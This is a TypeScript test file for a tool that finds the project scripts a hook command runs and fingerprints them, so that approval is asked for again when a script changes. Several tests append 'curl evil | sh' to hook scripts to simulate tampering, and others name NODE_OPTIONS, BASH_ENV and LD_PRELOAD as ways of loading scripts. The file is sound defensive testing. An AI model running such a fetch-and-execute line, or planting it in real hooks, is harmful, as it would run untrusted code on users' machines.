import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { consentFingerprint } from "../src/fingerprint.js";
import { referencedScripts, scriptReferences } from "../src/script-references.js";
import { tempDir } from "./support.js";

/** A project with real files: scripts (some not executable), a data file, a file outside it. */
function project() {
  const dir = tempDir();
  const put = (rel: string, mode = 0o755) => {
    const file = path.join(dir, rel);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, `# ${rel}\n`, { mode });
    return file;
  };
  const outside = path.join(tempDir(), "outside.sh");
  fs.writeFileSync(outside, "x", { mode: 0o755 });
  return {
    dir,
    hook: put("hook.sh"),
    x: put(".claude/hooks/x.sh", 0o644),
    b: put(".claude/hooks/b.sh"),
    c: put(".claude/hooks/c.sh"),
    check: put(".claude/hooks/e-check", 0o644),
    tool: put("bin/tool"),
    data: put("data/notes.json", 0o644),
    outside,
  };
}

describe("the project scripts a hook command runs", () => {
  it("finds scripts by position, interpreter, extension, input redirect and project variable", () => {
    const p = project();
    const found = (command: string) => referencedScripts(command, p.dir);
    expect(found("./hook.sh")).toEqual([p.hook]);
    expect(found("bash -x .claude/hooks/x.sh arg")).toEqual([p.x]);
    expect(found('node "$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh')).toEqual([p.x]);
    expect(found("sh ${CODEBOT_PROJECT_DIR}/hook.sh")).toEqual([p.hook]);
    expect(found("sh < .claude/hooks/x.sh")).toEqual([p.x]);
    expect(found("FOO=1 ./hook.sh 2>&1 | tee -a log && exec bin/tool")).toEqual([p.hook, p.tool]);
    expect(found("echo $(./hook.sh) `bin/tool`")).toEqual([p.hook, p.tool]);
    expect(found("npx tsx .claude/hooks/x.sh; ./hook.sh &> out.txt")).toEqual([p.x, p.hook]);
  });

  it("a `#` after a carriage return is no comment: the script after it is found, as bash runs it", () => {
    const p = project();
    expect(referencedScripts("echo a\r#; ./hook.sh", p.dir)).toEqual([p.hook]);
  });

  it("follows a cd or pushd before a word: later relative words are found in that directory", () => {
    const p = project();
    const found = (command: string) => referencedScripts(command, p.dir);
    expect(found("cd .claude/hooks && ./b.sh")).toEqual([p.b]);
    expect(found("cd .claude/hooks; ./b.sh")).toEqual([p.b]);
    expect(found("cd .claude || exit 1; sh hooks/b.sh")).toEqual([p.b]);
    expect(found("pushd .claude/hooks >/dev/null && bash c.sh")).toEqual([p.c]);
    expect(found("cd .claude && cd hooks && ./b.sh")).toEqual([p.b]);
  });

  it("reads the project variables with a default, braced or bare, quoted or not", () => {
    const p = project();
    const found = (command: string) => referencedScripts(command, p.dir);
    expect(found("${CLAUDE_PROJECT_DIR:-.}/.claude/hooks/c.sh")).toEqual([p.c]);
    expect(found('"${CLAUDE_PROJECT_DIR:-.}"/.claude/hooks/c.sh')).toEqual([p.c]);
    expect(found('"${CODEBOT_PROJECT_DIR:-$CLAUDE_PROJECT_DIR}/.claude/hooks/c.sh"')).toEqual([p.c]);
    expect(found("bash ${CODEBOT_PROJECT_DIR-.}/hook.sh")).toEqual([p.hook]);
  });

  it("an interpreter option that takes a value does not hide the script after it, executable or not", () => {
    const p = project();
    expect(referencedScripts("bash -o pipefail .claude/hooks/e-check", p.dir)).toEqual([p.check]);
    expect(referencedScripts("python3 -W ignore -X dev .claude/hooks/e-check", p.dir)).toEqual([p.check]);
  });

  it("hashes what runs, wherever it is named: a bare program, a script extension, an option's or variable's script, a file piped into a shell", () => {
    const p = project();
    const found = (command: string) => referencedScripts(command, p.dir);
    expect(found("hook.sh")).toEqual([p.hook]);
    expect(found("node --require=./hook.sh -e 1")).toEqual([p.hook]);
    expect(found("S=.claude/hooks/x.sh; bash $S")).toEqual([p.x]);
    expect(found("cat data/notes.json | sh")).toEqual([p.data]);
    expect(found("xargs bin/tool < data/notes.json")).toEqual([p.tool]);
  });

  it("does not hash the data files a command names: a log its script appends to, a file it reads", () => {
    const p = project();
    const found = (command: string) => referencedScripts(command, p.dir);
    // Hashing them would ask again after every run of the hook.
    expect(found("python3 .claude/hooks/x.sh data/notes.json")).toEqual([p.x]);
    expect(found("cat data/notes.json; jq . < data/notes.json")).toEqual([]);
    expect(found("bash -c 'echo hi' .claude/hooks/e-check")).toEqual([]);
  });

  it("hashes the source of < when a shell or interpreter reads its script from stdin, not when it runs a script", () => {
    const p = project();
    const found = (command: string) => referencedScripts(command, p.dir);
    expect(found("bash -s arg < .claude/hooks/e-check")).toEqual([p.check]);
    expect(found("python3 - < .claude/hooks/e-check")).toEqual([p.check]);
    expect(found("python3 .claude/hooks/x.sh < data/notes.json")).toEqual([p.x]);
  });

  it("leaves out files the command writes, single-quoted variables and files outside the project", () => {
    const p = project();
    const found = (command: string) => referencedScripts(command, p.dir);
    expect(found("echo hi > hook.sh; cat >> .claude/hooks/x.sh")).toEqual([]);
    // Hashing what a hook writes would make it ask again after each run.
    expect(
      found("./bin/tool | tee -a hook.sh; touch data/notes.json; cp bin/tool .claude/hooks/x.sh"),
    ).toEqual([p.tool]);
    expect(found("sh '$CLAUDE_PROJECT_DIR/hook.sh'")).toEqual([]);
    expect(found(`bash ${p.outside}; ../outside.sh`)).toEqual([]);
  });

  it("lists the words naming something run that it cannot check: other variables, $(…), a missing script, an unknown cd", () => {
    const p = project();
    const unchecked = (command: string) => scriptReferences(command, p.dir).unchecked;
    expect(unchecked("$PWD/.claude/hooks/b.sh")).toEqual(["$PWD/.claude/hooks/b.sh"]);
    expect(unchecked('"$(dirname "$0")"/x.sh; bash "$SCRIPT"')).toEqual([
      '"$(dirname "$0")"/x.sh',
      '"$SCRIPT"',
    ]);
    expect(unchecked("./gen.sh && node tools/missing.js")).toEqual(["./gen.sh", "tools/missing.js"]);
    // When the variable is unset, the default runs instead of the project's file.
    expect(unchecked("${CLAUDE_PROJECT_DIR:-/opt/x}/hook.sh")).toEqual([
      "${CLAUDE_PROJECT_DIR:-/opt/x}/hook.sh",
    ]);
    expect(unchecked('cd "$HOOKS" && ./hook.sh')).toEqual(["./hook.sh"]);
    expect(unchecked("sh $'\\x2e/hook.sh'")).toEqual(["$'\\x2e/hook.sh'"]);
  });

  it("a command nested deeper than it lexes is listed as unchecked instead of overflowing the stack", () => {
    const p = project();
    const deep = `echo ${"$(".repeat(5000)}./hook.sh${")".repeat(5000)}`;
    expect(scriptReferences(deep, p.dir).unchecked).not.toEqual([]);
  });

  it("does not list what it covers or what is not a path run: URLs, sed scripts, directories, data, outside paths", () => {
    const p = project();
    const unchecked = (command: string) => scriptReferences(command, p.dir).unchecked;
    expect(unchecked("cd .claude/hooks && ./b.sh; ${CLAUDE_PROJECT_DIR:-.}/hook.sh")).toEqual([]);
    expect(unchecked("curl -fsS https://example.com/x.sh -H 'Accept: text/plain'")).toEqual([]);
    expect(unchecked("sed -e 's/a/b/' data/notes.json; ls .claude/ src/ && echo \"$HOME\"")).toEqual([]);
    expect(unchecked("/usr/bin/env python3 ~/bin/x.py >> logs/hook.log 2>/dev/null")).toEqual([]);
    expect(unchecked("[ -x ./hook.sh ] && git diff origin/main")).toEqual([]);
  });
});

describe("the bounds of the analysis", () => {
  it("30 cds in a row finish in well under the time a session start can wait, and later paths are unchecked", () => {
    const p = project();
    const command = `${Array.from({ length: 30 }, (_, k) => `cd d${k}`).join("; ")}; ./hook.sh`;
    const started = Date.now();
    const found = scriptReferences(command, p.dir);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(found).toEqual({
      files: [p.hook],
      unchecked: ["./hook.sh"],
      unknownRole: [],
      views: new Map(),
      gitFolderFiles: [],
      unnamedRuns: [],
    });
  });

  it("a command of more words than it examines lists the rest as unchecked", () => {
    const p = project();
    const found = scriptReferences(`${"echo a; ".repeat(3000)}./hook.sh`, p.dir);
    expect(found.files).toEqual([]);
    expect(found.unchecked).toHaveLength(1);
  });

  it("a word too long for a file name, or a path through a file, names no file and does not throw", () => {
    const p = project();
    const long = `jq -e '${"x".repeat(5000)}' > /dev/null || exit 2`;
    expect(scriptReferences(long, p.dir)).toEqual({
      files: [],
      unchecked: [],
      unknownRole: [],
      views: new Map(),
      gitFolderFiles: [],
      unnamedRuns: [],
    });
    expect(referencedScripts("./hook.sh/x; bash hook.sh/y.sh", p.dir)).toEqual([]);
    expect(() => consentFingerprint("entry", { type: "command", command: long }, p.dir)).not.toThrow();
  });
});

describe("the consent fingerprint", () => {
  it("changes with a script's content and equals the entry's without scripts", () => {
    const p = project();
    const spec = { type: "command", command: "bash hook.sh" } as const;
    const before = consentFingerprint("entry", spec, p.dir);
    expect(before).not.toBe("entry");
    expect(consentFingerprint("entry", spec, p.dir)).toBe(before);
    fs.appendFileSync(p.hook, "curl evil | sh\n");
    expect(consentFingerprint("entry", spec, p.dir)).not.toBe(before);
    expect(consentFingerprint("entry", { type: "command", command: "echo hi" }, p.dir)).toBe("entry");
  });

  it.each([
    ["cd .claude/hooks && ./b.sh", "b"],
    ["${CLAUDE_PROJECT_DIR:-.}/.claude/hooks/c.sh", "c"],
    ["bash -o pipefail .claude/hooks/e-check", "check"],
  ] as const)("of %j changes when the script it runs is edited", (command, script) => {
    const p = project();
    const spec = { type: "command", command } as const;
    const before = consentFingerprint("entry", spec, p.dir);
    fs.appendFileSync(p[script], "curl evil | sh\n");
    expect(consentFingerprint("entry", spec, p.dir)).not.toBe(before);
  });

  it.each([
    ["NODE_OPTIONS", "--require ./.claude/hooks/e-check"],
    ["BASH_ENV", ".claude/hooks/e-check"],
    ["LD_PRELOAD", "/usr/lib/x.so:.claude/hooks/e-check"],
  ])("changes when a script the entry's env %s loads is edited", (name, value) => {
    const p = project();
    const spec = { type: "command", command: "node -e 1" } as const;
    const before = consentFingerprint("entry", spec, p.dir, { [name]: value });
    fs.appendFileSync(p.check, "curl evil | sh\n");
    expect(consentFingerprint("entry", spec, p.dir, { [name]: value })).not.toBe(before);
  });
});
